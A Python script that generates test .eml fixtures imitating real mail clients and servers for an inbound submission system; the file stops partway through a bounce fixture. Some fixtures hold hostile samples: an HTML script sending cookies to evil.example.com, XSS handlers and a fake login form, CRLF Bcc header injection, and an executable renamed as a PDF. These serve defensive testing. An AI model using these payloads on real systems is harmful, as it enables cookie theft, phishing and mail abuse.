"""Writes the corpus of incoming messages (``*.eml`` next to this file).

The messages imitate what partners' mail clients and mail servers really send: the
header layouts, MIME trees, charsets and transfer encodings of Outlook, Gmail,
Thunderbird, Postfix, Exchange Online and qmail. Binary parts (flyers, PDFs, a renamed
program, an archive) are generated here so the files stay reproducible. Run it again
after changing it: ``uv run python tests/inbound/corpus/make_corpus.py``.

Placeholders replaced by the tests: ``VERPTOKEN`` (the VERP token of a delivery) and
``absent@destinataire.example.net`` (the recipient that bounced).
"""

from __future__ import annotations

import base64
import io
import quopri
import zipfile
from pathlib import Path

from PIL import Image, ImageDraw

HERE = Path(__file__).resolve().parent
KNOWN_FR = "communication@asbl-soleil.example.org"
KNOWN_NL = "info@buurthuis-noord.example.net"
UNKNOWN = "contact@collectif-inconnu.example.com"
SUBMISSIONS = "actualites@coordination.example.org"


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def qp(text: str, charset: str) -> str:
    return quopri.encodestring(text.encode(charset).replace(b"\n", b"\r\n")).decode("ascii")


def png(width: int, height: int, colour: tuple[int, int, int], label: str) -> bytes:
    image = Image.new("RGB", (width, height), colour)
    ImageDraw.Draw(image).text((10, 10), label, fill=(255, 255, 255))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def jpeg(width: int, height: int, label: str) -> bytes:
    image = Image.new("RGB", (width, height), (200, 80, 40))
    ImageDraw.Draw(image).text((10, 10), label, fill=(255, 255, 255))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=70)
    return out.getvalue()


def pdf(title: str) -> bytes:
    """A small valid PDF with one page of text."""
    text = title.encode("latin-1", "replace")
    stream = b"BT /F1 18 Tf 50 750 Td (" + text + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


def fake_exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)


def zip_file() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("photos/photo1.jpg", date_time=(2026, 11, 2, 10, 0, 0))
        archive.writestr(info, jpeg(64, 64, "x"))
    return out.getvalue()


def crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


FLYER = png(800, 600, (30, 90, 160), "Portes ouvertes 15/12")
LOGO = png(180, 48, (240, 180, 0), "logo")
PROGRAMME = pdf("Programme de la journee portes ouvertes")


def m01_outlook_cp1252() -> bytes:
    plain = (
        "Bonjour,\n\n"
        "L\u2019ASBL Le Soleil vous invite à sa journée portes ouvertes – le mardi 15 "
        "décembre de 10h à 16h.\n\n"
        "Au programme : ateliers cuisine, présentation du service d\u2019aide "
        "alimentaire, rencontre avec l\u2019équipe.\n\n"
        "Vous trouverez l\u2019affiche et le programme en pièce jointe.\n\n"
        "Bien à vous,\n\n"
        "Service communication\n"
        "ASBL Le Soleil\n"
        "Rue de l\u2019Exemple 12, 1000 Bruxelles\n"
    )
    html = (
        '<html xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:w="urn:schemas-microsoft-com:office:word" '
        'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
        'xmlns="http://www.w3.org/TR/REC-html40"><head>'
        '<meta http-equiv=Content-Type content="text/html; charset=windows-1252">'
        '<meta name=Generator content="Microsoft Word 15 (filtered medium)">'
        "<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}</style><![endif]-->"
        "<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:Calibri;}\n"
        "p.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;font-size:11.0pt;"
        'font-family:"Calibri",sans-serif;mso-fareast-language:EN-US;}\n--></style>'
        '<!--[if gte mso 9]><xml>\n<o:shapedefaults v:ext="edit" spidmax="1026" />\n'
        "</xml><![endif]--></head>"
        '<body lang=FR-BE link="#0563C1" vlink="#954F72" style=\'word-wrap:break-word\'>'
        "<div class=WordSection1><p class=MsoNormal>Bonjour,<o:p></o:p></p>"
        "<p class=MsoNormal><o:p>&nbsp;</o:p></p>"
        "<p class=MsoNormal>L\u2019ASBL Le Soleil vous invite à sa <b>journée portes "
        "ouvertes</b> – le mardi 15 décembre de 10h à 16h.<o:p></o:p></p>"
        "<p class=MsoNormal><img width=400 height=300 style='width:4.1in;height:3.1in' "
        'id="Image_x0020_2" src="cid:image002.png@01DB3C1A.5E3F1A20" alt="Affiche">'
        "<o:p></o:p></p>"
        "<p class=MsoNormal>Bien à vous,<o:p></o:p></p>"
        '<p class=MsoNormal><img width=180 height=48 src="cid:image001.png@01DB3C1A.5E3F1A20">'
        "<o:p></o:p></p></div></body></html>"
    )
    return crlf(
        f"""Received: from EXCH01.asbl-soleil.example.org (192.0.2.10) by
 mx.coordination.example.org with ESMTPS; Tue, 3 Nov 2026 10:12:31 +0100
From: ASBL Le Soleil <{KNOWN_FR}>
To: "actualites@coordination.example.org" <{SUBMISSIONS}>
Subject: =?Windows-1252?Q?Journ=E9e_portes_ouvertes_=96_15_d=E9cembre?=
Thread-Topic: =?Windows-1252?Q?Journ=E9e_portes_ouvertes_=96_15_d=E9cembre?=
Thread-Index: AdtNf4kq0y8ZV8mDQ3m5qg6k9yR0Aw==
Date: Tue, 3 Nov 2026 09:12:30 +0000
Message-ID: <AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5@AM0PR01MB4132.eurprd01.prod.example.org>
Accept-Language: fr-BE, en-US
Content-Language: fr-FR
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
x-ms-exchange-organization-scl: -1
Content-Type: multipart/mixed;
\tboundary="_006_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_"
MIME-Version: 1.0

--_006_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_
Content-Type: multipart/related;
\tboundary="_005_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_";
\ttype="multipart/alternative"

--_005_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_
Content-Type: multipart/alternative;
\tboundary="_000_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_"

--_000_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_
Content-Type: text/plain; charset="Windows-1252"
Content-Transfer-Encoding: quoted-printable

{qp(plain, "cp1252")}
--_000_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_
Content-Type: text/html; charset="Windows-1252"
Content-Transfer-Encoding: quoted-printable

{qp(html, "cp1252")}
--_000_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_--

--_005_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size={len(LOGO)};
\tcreation-date="Tue, 03 Nov 2026 09:12:30 GMT";
\tmodification-date="Tue, 03 Nov 2026 09:12:30 GMT"
Content-ID: <image001.png@01DB3C1A.5E3F1A20>
Content-Transfer-Encoding: base64

{b64(LOGO)}
--_005_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_
Content-Type: image/png; name="image002.png"
Content-Description: image002.png
Content-Disposition: inline; filename="image002.png"; size={len(FLYER)}
Content-ID: <image002.png@01DB3C1A.5E3F1A20>
Content-Transfer-Encoding: base64

{b64(FLYER)}
--_005_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_--

--_006_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_
Content-Type: application/pdf; name="=?iso-8859-1?Q?Programme_journ=E9e.pdf?="
Content-Description: =?iso-8859-1?Q?Programme_journ=E9e.pdf?=
Content-Disposition: attachment;
\tfilename*=iso-8859-1''Programme%20journ%E9e.pdf; size={len(PROGRAMME)}
Content-Transfer-Encoding: base64

{b64(PROGRAMME)}
--_006_AM0PR01MB4132A1B2C3D4E5F60718293AB4CD5AM0PR01MB4132eurp_--
"""
    )


def m02_outlook_html_only() -> bytes:
    html = (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:w="urn:schemas-microsoft-com:office:word">\n<head>\n'
        '<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">\n'
        "<style>p.MsoNormal {margin:0cm; font-family:Calibri} "
        "p.MsoListParagraph {margin-left:36.0pt}</style>\n"
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/>"
        "</o:OfficeDocumentSettings></xml><![endif]-->\n</head>\n"
        "<body lang=NL-BE style='tab-interval:35.4pt'>\n<div class=WordSection1>\n"
        "<p class=MsoNormal>Beste,<o:p></o:p></p>\n"
        "<p class=MsoNormal><o:p>&nbsp;</o:p></p>\n"
        "<p class=MsoNormal>Buurthuis Noord organiseert een <b>infosessie over "
        "energiepremies</b> op donderdag 10 december om 14u. Iedereen is welkom – "
        "gratis toegang, koffie voorzien.<o:p></o:p></p>\n"
        "<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;"
        "mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'>"
        "·<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; "
        "</span></span><![endif]>Welke premies bestaan er?<o:p></o:p></p>\n"
        "<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;"
        "mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'>"
        "·<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; "
        "</span></span><![endif]>Hoe vraag je ze aan?<o:p></o:p></p>\n"
        '<p class=MsoNormal>Meer info: <a href="https://buurthuis-noord.example.net/'
        'energie">buurthuis-noord.example.net/energie</a><o:p></o:p></p>\n'
        "<p class=MsoNormal><o:p>&nbsp;</o:p></p>\n"
        "<div id=\"Signature\"><p class=MsoNormal><span style='color:#1F497D'>"
        "Met vriendelijke groeten,<br>Het team van Buurthuis Noord<br>"
        "Tel. 02 000 00 00</span></p></div>\n"
        "</div>\n</body>\n</html>\n"
    )
    body = html.encode("cp1252")
    head = crlf(
        f"""Return-Path: <{KNOWN_NL}>
From: "Buurthuis Noord" <{KNOWN_NL}>
To: <{SUBMISSIONS}>
Subject: Infosessie energiepremies - 10 december
Date: Wed, 4 Nov 2026 14:03:11 +0100
Message-ID: <000001db2e7f$3c1a2b40$b44e81c0$@buurthuis-noord.example.net>
MIME-Version: 1.0
Content-Type: text/html
Content-Transfer-Encoding: 8bit
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AdsuflGQ9xX1QbUzRPKfw1m3Ozv6mA==
Content-Language: nl-be

"""
    )
    return head + body.replace(b"\n", b"\r\n")


def m03_gmail_forward() -> bytes:
    plain = (
        "Bonjour,\n\nPourriez-vous relayer cet appel dans la prochaine lettre ? Merci !\n\n"
        "-- \nService communication - ASBL Le Soleil\n\n"
        "---------- Forwarded message ---------\n"
        "From: Fondation Exemple <appels@fondation.example.com>\n"
        "Date: Mon, 2 Nov 2026 at 16:40\n"
        "Subject: Appel à projets 2027 : cohésion sociale\n"
        "To: <partenaires@fondation.example.com>\n\n\n"
        "Madame, Monsieur,\n\n"
        "La Fondation Exemple lance son appel à projets 2027 « Cohésion sociale ». "
        "Les associations bruxelloises peuvent introduire un dossier jusqu'au 31 janvier "
        "2027.\n\nBudget : jusqu'à 15 000 € par projet.\n\n"
        "Informations : https://fondation.example.com/appel-2027\n"
    )
    html = (
        '<div dir="ltr">Bonjour,<div><br></div><div>Pourriez-vous relayer cet appel dans la '
        "prochaine lettre ? Merci !</div><div><br></div>"
        '<span class="gmail_signature_prefix">-- </span><br><div dir="ltr" '
        'class="gmail_signature">Service communication - ASBL Le Soleil</div><br>'
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">---------- Forwarded '
        'message ---------<br>From: <strong class="gmail_sendername" dir="auto">'
        'Fondation Exemple</strong> <span dir="auto">&lt;appels@fondation.example.com'
        "&gt;</span><br>Date: Mon, 2 Nov 2026 at 16:40<br>Subject: Appel à projets 2027 : "
        "cohésion sociale<br>To: &lt;partenaires@fondation.example.com&gt;<br></div><br><br>"
        '<div dir="ltr"><p>Madame, Monsieur,</p><p>La Fondation Exemple lance son appel à '
        "projets 2027 « Cohésion sociale ». Les associations bruxelloises peuvent introduire "
        "un dossier jusqu'au 31 janvier 2027.</p><p>Budget : jusqu'à 15 000 € par projet."
        '</p><p>Informations : <a href="https://fondation.example.com/appel-2027">'
        "https://fondation.example.com/appel-2027</a></p></div></div></div>"
    )
    return crlf(
        f"""MIME-Version: 1.0
Date: Tue, 3 Nov 2026 11:02:45 +0100
Message-ID: <CAF3x9qZ0Yk1uS-8bTqk4pX2nQ@mail.example.com>
Subject: Fwd: =?UTF-8?Q?Appel_=C3=A0_projets_2027_=3A_coh=C3=A9sion_sociale?=
From: ASBL Le Soleil <{KNOWN_FR}>
To: {SUBMISSIONS}
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(plain, "utf-8")}
--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(html, "utf-8")}
--000000000000a1b2c3d4e5f60718--
"""
    )


INVITATION = pdf("Invitation AG Reseau sante")


def m04_forward_as_attachment() -> bytes:
    inner_text = (
        "Chers partenaires,\n\n"
        "Le Réseau santé mentale vous invite à son assemblée le jeudi 17 décembre à "
        "9h30, salle polyvalente, rue de l'Exemple 40.\n\n"
        "Ordre du jour et formulaire d'inscription en pièce jointe.\n\n"
        "Cordialement,\nLe secrétariat\n"
    )
    return crlf(
        f"""Message-ID: <5f1c2a3b-7d4e-4c1a-9b2e-0123456789ab@asbl-soleil.example.org>
Date: Wed, 4 Nov 2026 08:15:02 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: {SUBMISSIONS}
From: ASBL Le Soleil <{KNOWN_FR}>
Subject: =?UTF-8?Q?Fwd=3A_Invitation_=3A_assembl=C3=A9e_du_R=C3=A9seau_sant=C3=A9?=
 =?UTF-8?Q?_mentale?=
Content-Type: multipart/mixed; boundary="------------m3zFq8pT0aXc1YbVnLk2rW"

This is a multi-part message in MIME format.
--------------m3zFq8pT0aXc1YbVnLk2rW
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Bonjour, voici l'invitation reçue ce matin, à diffuser si possible.

--------------m3zFq8pT0aXc1YbVnLk2rW
Content-Type: message/rfc822; name="Invitation assemblee.eml"
Content-Disposition: attachment; filename="Invitation assemblee.eml"

Return-Path: <secretariat@reseau-sante.example.net>
From: =?iso-8859-1?Q?R=E9seau_sant=E9_mentale?= <secretariat@reseau-sante.example.net>
To: partenaires@reseau-sante.example.net
Subject: =?iso-8859-1?Q?Invitation_=3A_assembl=E9e_du_R=E9seau_sant=E9_mentale?=
Date: Tue, 3 Nov 2026 17:30:00 +0100
Message-ID: <20261103173000.4711@reseau-sante.example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_inner_7f3a"

--=_inner_7f3a
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: quoted-printable

{qp(inner_text, "latin-1")}
--=_inner_7f3a
Content-Type: application/pdf;
 name="=?iso-8859-1?Q?Invitation_AG_R=E9seau_sant=E9.pdf?="
Content-Disposition: attachment;
 filename="=?iso-8859-1?Q?Invitation_AG_R=E9seau_sant=E9.pdf?="
Content-Transfer-Encoding: base64

{b64(INVITATION)}
--=_inner_7f3a--

--------------m3zFq8pT0aXc1YbVnLk2rW--
"""
    )


def m05_outlook_forward_fr() -> bytes:
    text = (
        "Bonjour,\n\nPour diffusion.\n\nBien à vous,\n\n"
        "________________________________\n"
        "De : Croix Exemple - Formations <formations@croix.example.org>\n"
        "Envoyé : lundi 2 novembre 2026 09:14\n"
        "À : ASBL Le Soleil <communication@asbl-soleil.example.org>\n"
        "Objet : Formation premiers secours - session de janvier\n\n"
        "Bonjour,\n\n"
        "Une formation gratuite aux premiers secours est proposée aux travailleurs "
        "sociaux les 12 et 13 janvier 2027 (2 x 6 heures).\n\n"
        "Inscriptions avant le 15 décembre : https://croix.example.org/formations\n"
    )
    return crlf(
        f"""From: ASBL Le Soleil <{KNOWN_FR}>
To: "{SUBMISSIONS}" <{SUBMISSIONS}>
Subject: TR: Formation premiers secours - session de janvier
Thread-Topic: Formation premiers secours - session de janvier
Date: Wed, 4 Nov 2026 10:01:17 +0000
Message-ID: <PA4PR02MB6789F00D1234ABCD5678EF90AB12C@PA4PR02MB6789.eurprd02.prod.example.org>
Content-Language: fr-FR
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{b64(text.replace(chr(10), chr(13) + chr(10)).encode("utf-8"))}"""
    )


FLYER_NAME = base64.b64encode("Flyer café ñ.jpg".encode()).decode()


def m06_attachment_names() -> bytes:
    flyer = jpeg(640, 480, "Festival")
    poster = pdf("Affiche ete 2027")
    uitnodiging = pdf("Uitnodiging")
    return crlf(
        f"""From: Buurthuis Noord <{KNOWN_NL}>
To: {SUBMISSIONS}
Subject: =?UTF-8?Q?Zomerfestival_2027_=E2=80=93_affiche_&_uitnodiging?=
Date: Thu, 5 Nov 2026 16:20:00 +0100
Message-ID: <festival-2027-affiche@buurthuis-noord.example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1_festival"

--b1_festival
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Beste, bonjour,

Hierbij de affiche en de uitnodiging voor ons zomerfestival op 3 juli 2027.
Vous trouverez aussi l'affiche en français.

--b1_festival
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*=UTF-8''Affiche%20%C3%A9t%C3%A9%202027%20%E2%80%93%20Sch%C3%A6rbeek.pdf
Content-Transfer-Encoding: base64

{b64(poster)}
--b1_festival
Content-Type: image/jpeg; name="=?UTF-8?B?{FLYER_NAME}?="
Content-Disposition: attachment; filename="=?UTF-8?B?{FLYER_NAME}?="
Content-Transfer-Encoding: base64

{b64(flyer)}
--b1_festival
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*0*=UTF-8''Uitnodiging%20Brussel%20%E2%80%93%20;
 filename*1*=%C3%ABvenement%20zomer.pdf
Content-Transfer-Encoding: base64

{b64(uitnodiging)}
--b1_festival
Content-Type: application/octet-stream; name="programme.exe"
Content-Disposition: attachment; filename="programme.exe"
Content-Transfer-Encoding: base64

{b64(fake_exe())}
--b1_festival
Content-Type: application/zip; name="photos.zip"
Content-Disposition: attachment; filename="photos.zip"
Content-Transfer-Encoding: base64

{b64(zip_file())}
--b1_festival
Content-Type: application/pdf; name="facture.pdf"
Content-Disposition: attachment; filename="facture.pdf"
Content-Transfer-Encoding: base64

{b64(fake_exe())}
--b1_festival--
"""
    )


def m07_html_scripts() -> bytes:
    html = (
        "<!DOCTYPE html><html><head><title>Stage</title>"
        "<script>document.location='https://evil.example.com/?c='+document.cookie</script>"
        "<style>body{background:url(https://tracker.example.com/bg.gif)}</style></head>"
        '<body onload="alert(1)"><h1>Stage de théâtre pour ados</h1>'
        "<p>Du 22 au 26 février 2027, <b>stage de théâtre</b> pour les 12-16 ans.</p>"
        '<p><a href="javascript:alert(document.domain)">Inscription</a> ou '
        '<a href="https://theatre.example.org/stage" onclick="steal()">site</a></p>'
        '<img src="https://tracker.example.com/open.gif?id=42" width="1" height="1">'
        '<iframe src="https://evil.example.com/frame"></iframe>'
        '<form action="https://evil.example.com/login"><input name="password"></form>'
        '<p style="color:red" onmouseover="x()">Places limitées.</p>'
        '<svg onload="alert(2)"><script>alert(3)</script></svg>'
        "</body></html>"
    )
    return crlf(
        f"""From: Atelier Theatre Exemple <stages@theatre.example.org>
To: {SUBMISSIONS}
Subject: =?utf-8?B?{base64.b64encode("Stage de théâtre pour ados".encode()).decode()}?=
Date: Fri, 6 Nov 2026 09:00:00 +0100
Message-ID: <stage-theatre-2027@theatre.example.org>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp(html, "utf-8")}"""
    )


def m08_header_injection() -> bytes:
    evil = "Stage d'été\r\nBcc: victime@example.net\r\nX-Injected: oui"
    subject = base64.b64encode(evil.encode()).decode()
    name = "=?UTF-8?Q?ASBL_Le_Soleil=0D=0ABcc:_cible@example.net?="
    return crlf(
        f"""From: {name} <{KNOWN_FR}>
To: {SUBMISSIONS}
Subject: =?UTF-8?B?{subject}?=
Date: Fri, 6 Nov 2026 10:00:00 +0100
Message-ID: <injection-test-0001@asbl-soleil.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Un stage d'été pour les enfants de 6 à 12 ans, du 5 au 9 juillet 2027.
"""
    )


def m09_malformed_boundary() -> bytes:
    return crlf(
        f"""From: ASBL Le Soleil <{KNOWN_FR}>
To: {SUBMISSIONS}
Subject: Repas solidaire
Date: Sat, 7 Nov 2026 12:00:00 +0100
Message-ID: <broken-mime-0001@asbl-soleil.example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="==AAA=="

--==BBB==
Content-Type: text/plain; charset=utf-8

Repas solidaire le 20 novembre.
--==BBB==
Content-Type: application/pdf; name="menu.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJcfsj6IKNSAwIG9iago8PC9MZW5ndGggNiAwIFI+PgpzdHJlYW0K
--==BBB==--
"""
    )


def m10_truncated_mime() -> bytes:
    flyer = b64(png(500, 400, (10, 120, 60), "Repair Café"))
    return crlf(
        f"""From: Buurthuis Noord <{KNOWN_NL}>
To: {SUBMISSIONS}
Subject: Repair Café zaterdag
Date: Sat, 7 Nov 2026 13:00:00 +0100
Message-ID: <truncated-0001@buurthuis-noord.example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="cut-here"

--cut-here
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Elke eerste zaterdag van de maand: Repair Caf=C3=A9 in het buurthuis, van 10u=
 tot 13u. Breng je kapotte spullen mee!

--cut-here
Content-Type: image/png; name="repair.png"
Content-Disposition: attachment; filename="repair.png"
Content-Transfer-Encoding: base64

{flyer[: len(flyer) // 3]}"""
    )


def m11_auto_reply() -> bytes:
    return crlf(
        f"""From: ASBL Le Soleil <{KNOWN_FR}>
To: {SUBMISSIONS}
Subject: =?utf-8?Q?R=C3=A9ponse_automatique=C2=A0=3A_Votre_lettre_d=27information?=
Date: Mon, 9 Nov 2026 08:00:00 +0100
Message-ID: <auto-reply-0001@asbl-soleil.example.org>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-Autoreply: yes
In-Reply-To: <newsletter-42@coordination.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Bonjour, je suis absente jusqu'au 16 novembre. En cas d'urgence, contactez le
secrétariat.
"""
    )


def m12_dsn_postfix() -> bytes:
    return crlf(
        """Return-Path: <>
Delivered-To: bounces+VERPTOKEN@example.org
Received: by mx.coordination.example.org (Postfix)
	id 4Xb1C2D3E4; Mon,  9 Nov 2026 09:30:12 +0100 (CET)
Date: Mon,  9 Nov 2026 09:30:12 +0100 (CET)
From: MAILER-DAEMON@mx.coordination.example.org (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: bounces+VERPTOKEN@example.org
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="4Xb1C2D3E4.1762677012/mx.coordination.example.org"
Content-Transfer-Encoding: 8bit
Message-Id: <20261109083012.4Xb1C2D3E5@mx.coordination.example.org>

This is a MIME-encapsulated message.

--4Xb1C2D3E4.1762677012/mx.coordination.example.org
Content-Description: Notification
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

This is the mail system at host mx.coordination.example.org.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<absent@destinataire.example.net>: host mx.destinataire.example.net[198.51.100.7]
    said: 550 5.1.1 <absent@destinataire.example.net>: Recipient address
    rejected: User unknown in virtual mailbox table (in reply to RCPT TO command)

--4Xb1C2D3E4.1762677012/mx.coordination.example.org
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.coordination.example.org
X-Postfix-Queue-ID: 4Xb1C2D3E4
X-Postfix-Sender: rfc822; bounces+VERPTOKEN@example.org
Arrival-Date: Mon,  9 Nov 2026 09:30:10 +0100 (CET)

Final-Recipient: rfc822; absent@destinataire.example.net
Original-Recipient: rfc822;absent@destinataire.example.net
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.destinataire.example.net
Diagnostic-Code: smtp; 550 5.1.1 <absent@destinataire.example.net>: Recipient
    address rejected: User unknown in virtual mailbox table

--4Xb1C2D3E4.1762677012/mx.coordination.example.org
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers
Content-Transfer-Encoding: 8bit

Return-Path: <bounces+VERPTOKEN@example.org>
From: Coordination sociale <news@example.org>
To: absent@destinataire.example.net
Subject: =?utf-8?q?Lettre_d=27information_n=C2=B042?=
Message-ID: <newsletter-42-abc@example.org>
List-Id: <lettre.example.org>

--4Xb1C2D3E4.1762677012/mx.coordination.example.org--
"""
    )


def m13_ndr_exchange() -> bytes:
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii">'
        '</head><body><p><b><font color="#000066" size="3">Your message to '
        "absent@destinataire.example.net couldn't be delivered.</font></b></p>"
        "<p>absent wasn't found at destinataire.example.net.</p>"
        "<p>Remote Server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; "
        "Recipient not found by SMTP address lookup'</p></body></html>"
    )
    return crlf(
        f"""Received: from DB8PR01MB0001.eurprd01.prod.example.com ([::1]) by
 DB8PR01MB0001.eurprd01.prod.example.com with mapi id 15.20.8000.000; Mon, 9 Nov
 2026 08:45:01 +0000
From: <postmaster@destinataire.example.net>
To: <bounces+VERPTOKEN@example.org>
Date: Mon, 9 Nov 2026 08:45:01 +0000
Content-Type: multipart/report; report-type=delivery-status;
	boundary="85b7bf52-38e3-4a4b-bc38-3e0c7c26a1e9"
X-MS-Exchange-Message-Is-Ndr:
Content-Language: en-US
Message-ID: <a1b2c3d4-0001-4e5f-8a9b-0c1d2e3f4a5b@DB8PR01MB0001.eurprd01.prod.example.com>
In-Reply-To: <newsletter-42-def@example.org>
References: <newsletter-42-def@example.org>
Subject: Undeliverable: =?utf-8?q?Lettre_d=27information_n=C2=B042?=
Auto-Submitted: auto-replied
MIME-Version: 1.0

--85b7bf52-38e3-4a4b-bc38-3e0c7c26a1e9
Content-Type: multipart/alternative; differences=Content-Type;
	boundary="1cc1c4c5-7b5b-4f3a-9a63-5b43e1c0f0a2"

--1cc1c4c5-7b5b-4f3a-9a63-5b43e1c0f0a2
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Delivery has failed to these recipients or groups:

absent@destinataire.example.net<mailto:absent@destinataire.example.net>
The email address you entered couldn't be found. Please check the recipient's email=
 address and try to resend the message.

Diagnostic information for administrators:

Generating server: DB8PR01MB0001.eurprd01.prod.example.com

absent@destinataire.example.net
Remote Server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not fo=
und by SMTP address lookup'

--1cc1c4c5-7b5b-4f3a-9a63-5b43e1c0f0a2
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(html, "ascii")}
--1cc1c4c5-7b5b-4f3a-9a63-5b43e1c0f0a2--

--85b7bf52-38e3-4a4b-bc38-3e0c7c26a1e9
Content-Type: message/delivery-status

Reporting-MTA: dns;DB8PR01MB0001.eurprd01.prod.example.com
Received-From-MTA: dns;mail.example.org
Arrival-Date: Mon, 9 Nov 2026 08:45:00 +0000

Original-Recipient: rfc822;absent@destinataire.example.net
Final-Recipient: rfc822;absent@destinataire.example.net
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not
 found by SMTP address lookup

--85b7bf52-38e3-4a4b-bc38-3e0c7c26a1e9
Content-Type: message/rfc822

Return-Path: <bounces+VERPTOKEN@example.org>
From: Coordination sociale <news@example.org>
